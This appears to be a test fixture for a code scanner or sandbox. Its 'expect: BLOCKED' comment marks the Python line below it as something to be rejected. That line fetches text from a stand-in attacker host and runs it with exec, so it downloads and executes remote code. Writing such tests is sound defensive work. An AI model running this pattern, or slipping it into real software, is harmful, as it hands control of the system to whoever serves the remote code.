# expect: BLOCKED
import requests
exec(requests.get("http://evil.test/x").text)
